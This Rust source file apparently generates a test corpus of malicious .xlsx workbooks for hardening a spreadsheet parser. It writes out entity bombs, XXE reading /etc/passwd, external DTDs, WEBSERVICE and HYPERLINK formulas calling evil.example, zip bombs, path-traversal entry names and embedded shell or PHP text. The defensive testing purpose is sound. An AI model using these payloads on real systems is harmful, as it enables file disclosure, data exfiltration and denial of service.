//! Workbooks that mean harm, each with a name that says what is nasty about it.

use std::fmt::Write as _;

use zip::CompressionMethod;
use zip::write::SimpleFileOptions;

use super::book::{self, Part, Raw, parts, parts_with, raw_zip, rows, with};

/// Name and bytes of every workbook.
pub fn all() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, bytes: Vec<u8>| all.push((name.to_owned(), bytes));
    in_every_part(&mut add);
    archives(&mut add);
    links(&mut add);
    sheets(&mut add);
    cells(&mut add);
    all
}

const EVERY_PART: [&str; 7] = [
    "_rels/.rels",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/worksheets/0.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "docProps/core.xml",
];

/// What any part may hold.
fn in_every_part(add: &mut impl FnMut(&str, Vec<u8>)) {
    let laughs: String = (1..9).fold(String::from(r#"<!ENTITY e0 "lol">"#), |mut text, n| {
        let inner = format!("&e{};", n - 1).repeat(10);
        write!(text, r#"<!ENTITY e{n} "{inner}">"#).unwrap();
        text
    });
    for name in EVERY_PART {
        let original = parts().into_iter().find(|(own, _)| own == name).unwrap().1;
        let original = String::from_utf8(original).unwrap();
        let mut changed = |what: &str, content: String| {
            add(&format!("{what} in {name}"), book::zip(&with(parts(), name, content)));
        };
        changed("entity bomb", format!("<!DOCTYPE x [{laughs}]>{}", original.replacen('>', ">&e8;", 1)));
        changed(
            "external entity",
            format!(
                r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{}"#,
                original.replacen('>', ">&e;", 1)
            ),
        );
        changed("external DTD", format!(r#"<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">{original}"#));
        changed("unknown entity", original.replacen('>', ">&nope;", 1));
        changed("deep XML", format!("{}{}", original, "<x>".repeat(100_000)));
        changed("element of 2 MB", original.replacen('>', &format!("><x y='{}'/>", "z".repeat(2 << 20)), 1));
        changed("cut off", original[..original.len() / 2].to_owned());
        let zeros = Raw {
            name: name.to_owned(),
            method: 8,
            flags: 0,
            content: book::deflated_zeros(1024),
            size: 1 << 30,
            crc: 0,
            shares: false,
        };
        add(&format!("a gigabyte of zeros in {name}"), raw_zip(&stored_with(zeros)));
    }
}

/// The parts of a workbook, stored, with one replaced.
fn stored_with(entry: Raw) -> Vec<Raw> {
    let mut entries: Vec<Raw> = parts()
        .iter()
        .filter(|(name, _)| *name != entry.name)
        .map(|(name, content)| Raw::stored(name, content))
        .collect();
    entries.push(entry);
    entries
}

fn stored() -> Vec<Raw> {
    parts().iter().map(|(name, content)| Raw::stored(name, content)).collect()
}

/// The archive itself.
fn archives(add: &mut impl FnMut(&str, Vec<u8>)) {
    let many = |count: usize| {
        let mut entries = stored();
        entries.extend((0..count).map(|at| Raw::stored(&at.to_string(), b"")));
        raw_zip(&entries)
    };
    add("4,000 entries", many(4_000));
    add("5,000 entries", many(5_000));
    add("65,000 entries", many(65_000));
    for name in [
        "/etc/passwd",
        "../../../etc/passwd",
        "..\\..\\evil",
        "C:\\evil",
        "xl/../../evil",
        "con",
        "a\u{202e}b",
    ] {
        let mut entries = stored();
        entries.push(Raw::stored(name, b"x"));
        add(&format!("entry {name:?}"), raw_zip(&entries));
    }
    add("no entries", raw_zip(&[]));
    add("a part twice", raw_zip(&[stored(), stored()].concat()));
    add(
        "a part twice in other letters",
        raw_zip(&[stored(), vec![Raw::stored("XL/WorkBook.XML", b"<x/>")]].concat()),
    );
    let sheet = |change: &dyn Fn(&mut Raw)| {
        let mut entries = stored();
        entries.iter_mut().filter(|entry| entry.name == "xl/worksheets/0.xml").for_each(change);
        raw_zip(&entries)
    };
    add("a size that is too small", sheet(&|entry| entry.size = 3));
    add("a size that is too large", sheet(&|entry| entry.size = u32::MAX - 1));
    add("a wrong checksum", sheet(&|entry| entry.crc ^= 1));
    add("an encrypted part", sheet(&|entry| entry.flags = 1));
    add("a part in a method that nobody knows", sheet(&|entry| entry.method = 99));
    add("a part in bzip2", sheet(&|entry| entry.method = 12));
    add("a part that is no deflate", sheet(&|entry| entry.method = 8));
    add("a name that is no UTF-8", {
        let mut bytes = book::zip(&with(parts(), "xl/media/xyz", ""));
        while let Some(at) = bytes.windows(3).position(|window| window == b"xyz") {
            bytes[at..at + 3].copy_from_slice(b"\xff\xfe\x80");
        }
        bytes
    });
    add("text before the archive", [b"#!/bin/sh\nid\n".as_slice(), &raw_zip(&stored())].concat());
    add("text behind the archive", [raw_zip(&stored()).as_slice(), &[b'x'; 70_000]].concat());
    add("two archives", [raw_zip(&stored()), raw_zip(&stored())].concat());
    add("an archive in the archive", {
        let inner = raw_zip(&stored());
        raw_zip(&[Raw::stored("book.xlsx", &inner)])
    });
    let shared = Raw { shares: true, ..Raw::stored("x", &[b'x'; 100_000]) };
    let mut entries = stored();
    entries.push(Raw { shares: false, ..shared.clone() });
    entries.extend((0..4_000).map(|at| Raw { name: format!("x{at}"), ..shared.clone() }));
    add("4,000 entries of one content", raw_zip(&entries));
}

/// What leads from part to part.
fn links(add: &mut impl FnMut(&str, Vec<u8>)) {
    let package = |target: &str| {
        let text = format!(
            r#"<Relationships><Relationship Id="w" Type="http://x/officeDocument" Target="{target}"/></Relationships>"#
        );
        book::zip(&with(parts(), "_rels/.rels", text))
    };
    for target in [
        "/etc/passwd",
        "../../../../xl/workbook.xml",
        "file:///etc/passwd",
        "http://evil.example/workbook.xml",
        "",
        ".",
        "_rels/.rels",
        "xl\\workbook.xml",
        "xl/workbook.xml#x",
        "%78l/workbook.xml",
    ] {
        add(&format!("workbook at {target:?}"), package(target));
    }
    let sheet = |attributes: &str| {
        let text = format!(
            r#"<Relationships><Relationship Id="r0" Type="http://x/worksheet" {attributes}/></Relationships>"#
        );
        book::zip(&with(parts(), "xl/_rels/workbook.xml.rels", text))
    };
    for attributes in [
        r#"Target="../../../etc/passwd""#,
        r#"Target="http://evil.example/" TargetMode="External""#,
        r#"Target="workbook.xml""#,
        r#"Target="worksheets/0.xml" Target="worksheets/1.xml""#,
        "",
    ] {
        add(&format!("sheet at {attributes:?}"), sheet(attributes));
    }
    let list = |count: usize| {
        let sheets: String =
            (0..count).map(|at| format!(r#"<sheet name="S{at}" sheetId="{at}" r:id="r0"/>"#)).collect();
        format!("<workbook><sheets>{sheets}</sheets></workbook>")
    };
    add("1,000 sheets of one part", book::zip(&with(parts(), "xl/workbook.xml", list(1_000))));
    add("3,000 sheets of one part", book::zip(&with(parts(), "xl/workbook.xml", list(3_000))));
    let large: Vec<String> = (0..20_000).map(|at| format!("host-{at}.example.com|443|WW")).collect();
    let lines: Vec<&str> =
        std::iter::once("Endpoint/URL|Port|Geography").chain(large.iter().map(String::as_str)).collect();
    let amplified = with(parts_with(&rows(&lines)), "xl/workbook.xml", list(1_900));
    add("1,900 sheets of one part with 20,000 rows", book::zip(&amplified));
}

/// Sheets as a whole.
fn sheets(add: &mut impl FnMut(&str, Vec<u8>)) {
    let good = rows(&["Endpoint/URL|Port|Geography", "a.example.com|443|WW"]);
    let mut sheet = |name: &str, xml: &str| add(name, book::zip(&parts_with(xml)));
    let far = r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>"#;
    sheet("two cells as far apart as can be", &good.replace("</sheetData>", far));
    sheet("a dimension of everything", &format!(r#"<dimension ref="A1:XFD1048576"/>{good}"#));
    sheet("a dimension beyond everything", &format!(r#"<dimension ref="A1:ZZZZ99999999999"/>{good}"#));
    let merged = |ranges: &str| format!("{good}<mergeCells>{ranges}</mergeCells>");
    sheet("a merge of everything", &merged(r#"<mergeCell ref="A1:XFD1048576"/>"#));
    sheet("a merge of the endpoints' column", &merged(r#"<mergeCell ref="A2:A1048576"/>"#));
    sheet("a merge that goes back", &merged(r#"<mergeCell ref="B5:A1"/>"#));
    let many: String = (1..30_000).map(|at| format!(r#"<mergeCell ref="A{at}:XFD1048576"/>"#)).collect();
    sheet("30,000 merges that overlap", &merged(&many));
    let columns: String =
        (1..20_000).map(|at| format!(r#"<col min="{at}" max="16384" hidden="1"/>"#)).collect();
    sheet("20,000 hidden columns", &format!("<cols>{columns}</cols>{good}"));
    let hidden: String = (3..30_000).map(|at| format!(r#"<row r="{}" hidden="1"/>"#, at * 2)).collect();
    sheet("30,000 hidden rows", &good.replace("</sheetData>", &format!("{hidden}</sheetData>")));
    sheet("a row of number 0", &good.replace(r#"<row r="2">"#, r#"<row r="0">"#));
    sheet("a row beyond the last", &good.replace(r#"<row r="2">"#, r#"<row r="4294967296">"#));
    sheet("a cell of another row", &good.replace(r#"r="A2""#, r#"r="A9""#));
    sheet("cells that go back", &good.replace(r#"r="B2""#, r#"r="A2""#));
    sheet("rows in rows", &good.replace("</sheetData>", "<row><row><c><row/></c></row></row></sheetData>"));
    sheet("two sheets of data in one", &format!("{good}{good}"));
    sheet("no data", "");
    let names: String = "x&#x1b;[2J&#x202e;/../:*?[]".repeat(50);
    let named = book::sheets(&[(&names, &good), ("", &good), ("S", &good), ("S", &good), ("'=1+1", &good)]);
    add("names of sheets that mean harm", book::zip(&named));
    let mut part = |name: &str, content: Vec<u8>| {
        add(name, book::zip(&with(parts(), "xl/worksheets/0.xml", content)));
    };
    let whole = format!("<worksheet>{good}</worksheet>");
    let utf16: Vec<u8> = format!("\u{feff}<?xml version=\"1.0\" encoding=\"UTF-16\"?>{whole}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    part("a sheet in UTF-16", utf16);
    part(
        "a sheet that says another encoding",
        format!(r#"<?xml version="1.0" encoding="UTF-7"?>{whole}"#).into_bytes(),
    );
    part("a byte-order mark", format!("\u{feff}{whole}").into_bytes());
    part("octets that are no text", [whole.as_bytes(), b"\xff\xfe\xfd"].concat());
    part("a NUL", whole.replace("a.example.com", "a.example.com\0").into_bytes());
    part("a prefix for every element", {
        let prefixed = whole.replace("</", "\u{1}").replace('<', "<x:").replace('\u{1}', "</x:");
        prefixed.into_bytes()
    });
    part("instructions and comments", whole.replace("<row", "<?php id ?><!-- -- --><row").into_bytes());
    part("a comment that is never closed", whole.replace("</sheetData>", "<!-- ").into_bytes());
    part("elements that end in another order", whole.replace("</t></is>", "</is></t>").into_bytes());
    part("an attribute without quotes", whole.replace(r#"r="A2""#, "r=A2").into_bytes());
    part("an attribute twice", whole.replace(r#"r="A2""#, r#"r="A2" r="B2""#).into_bytes());
    let attributes: String = (0..20_000).map(|at| format!(" a{at}=''")).collect();
    part("20,000 attributes", whole.replace("<worksheet", &format!("<worksheet{attributes}")).into_bytes());
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    add("not compressed", book::zip_with(&parts(), options));
}

/// What stands in a cell.
fn cells(add: &mut impl FnMut(&str, Vec<u8>)) {
    let good = rows(&["Endpoint/URL|Port|Geography", "a.example.com|443|WW"]);
    let text = r#"<c r="A2" t="inlineStr"><is><t>a.example.com</t></is></c>"#;
    assert!(good.contains(text));
    let cell = |own: &str| parts_with(&good.replace(text, own));
    for (name, own) in [
        (
            "a formula with a result",
            r#"<c r="A2" t="str"><f>HYPERLINK("http://evil.example")</f><v>a.example.com</v></c>"#,
        ),
        ("a formula without a result", r#"<c r="A2"><f>WEBSERVICE("http://evil.example")</f></c>"#),
        ("a formula that refers to itself", r#"<c r="A2" t="str"><f>A2</f><v></v></c>"#),
        ("an error", r#"<c r="A2" t="e"><v>#REF!</v></c>"#),
        ("an error that nobody knows", r#"<c r="A2" t="e"><v>#EVIL!</v></c>"#),
        ("a type that nobody knows", r#"<c r="A2" t="evil"><v>a.example.com</v></c>"#),
        ("a truth value that is none", r#"<c r="A2" t="b"><v>7</v></c>"#),
        ("a number for a host", r#"<c r="A2"><v>2130706433</v></c>"#),
        ("a number beyond all numbers", r#"<c r="A2"><v>1e999</v></c>"#),
        ("a number that is none", r#"<c r="A2"><v>NaN</v></c>"#),
        ("a date beyond all dates", r#"<c r="A2" t="d"><v>99999-99-99</v></c>"#),
        ("a shared string that is not there", r#"<c r="A2" t="s"><v>4294967295</v></c>"#),
        ("a shared string below the first", r#"<c r="A2" t="s"><v>-1</v></c>"#),
        ("a shared string that is no number", r#"<c r="A2" t="s"><v>x</v></c>"#),
        ("a style that is not there", r#"<c r="A2" s="4294967295"><v>1</v></c>"#),
        ("a star as an escape", r#"<c r="A2" t="inlineStr"><is><t>_x002A_.com</t></is></c>"#),
        ("an override as an escape", r#"<c r="A2" t="inlineStr"><is><t>a_x202E_.example.com</t></is></c>"#),
        (
            "a line end as an escape",
            r#"<c r="A2" t="inlineStr"><is><t>a.example.com_x000D__x000A_*.com</t></is></c>"#,
        ),
        (
            "half a character as an escape",
            r#"<c r="A2" t="inlineStr"><is><t>a_xD800_.example.com</t></is></c>"#,
        ),
        ("a star as a character reference", r#"<c r="A2" t="inlineStr"><is><t>&#42;.com</t></is></c>"#),
        (
            "a reference to no character",
            r#"<c r="A2" t="inlineStr"><is><t>&#xD800;&#x0;&#x110000;</t></is></c>"#,
        ),
        (
            "a host in three runs",
            r#"<c r="A2" t="inlineStr"><is><r><t>*</t></r><r><t>.</t></r><r><t>com</t></r></is></c>"#,
        ),
        (
            "a reading beside the text",
            r#"<c r="A2" t="inlineStr"><is><t>a.example.com</t><rPh sb="0" eb="1"><t>*.com</t></rPh></is></c>"#,
        ),
        ("two texts", r#"<c r="A2" t="inlineStr"><is><t>a.example.com</t></is><is><t>*.com</t></is></c>"#),
        ("a value and a text", r#"<c r="A2" t="inlineStr"><v>0</v><is><t>a.example.com</t></is></c>"#),
        ("CDATA", r#"<c r="A2" t="inlineStr"><is><t><![CDATA[*.com]]></t></is></c>"#),
        (
            "a text within a comment",
            r#"<c r="A2" t="inlineStr"><is><t>a.example<!-- .evil -->.com</t></is></c>"#,
        ),
    ] {
        add(name, book::zip(&cell(own)));
    }
    let long = format!(r#"<c r="A2" t="inlineStr"><is><t>{}</t></is></c>"#, "x".repeat(200_000));
    add("a cell of 200,000 characters", book::zip(&cell(&long)));
    let shared = r#"<c r="A2" t="s"><v>0</v></c>"#;
    let strings = |text: String| -> Vec<Part> { with(cell(shared), "xl/sharedStrings.xml", text) };
    let si = "<si><t>shared.example.com</t></si>";
    for count in ["18446744073709551615", "99999999999999999999999", "-1"] {
        let text = format!(r#"<sst count="{count}" uniqueCount="{count}">{si}</sst>"#);
        add(&format!("{count} shared strings, as the part says"), book::zip(&strings(text)));
    }
    let many: String = format!("<sst>{}</sst>", si.repeat(60_000));
    add("60,000 shared strings", book::zip(&strings(many)));
    let long = format!("<sst>{si}{}</sst>", format!("<si><t>{}</t></si>", "y".repeat(30_000)).repeat(1_000));
    add("shared strings of 30 MB", book::zip(&strings(long)));
    let empty = format!("<sst>{}</sst>", "<si/>".repeat(100_000));
    add("100,000 shared strings without a text", book::zip(&strings(empty)));
    let of_one: String =
        (2..36_000).map(|row| format!(r#"<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>"#)).collect();
    let header = rows(&["Endpoint/URL|Port|Geography"]);
    let sheet = header.replace("</sheetData>", &format!("{of_one}</sheetData>"));
    let text = format!("<sst><si><t>{}</t></si></sst>", "z".repeat(30_000));
    add(
        "one text of 30,000 characters in 36,000 cells",
        book::zip(&with(parts_with(&sheet), "xl/sharedStrings.xml", text)),
    );
}
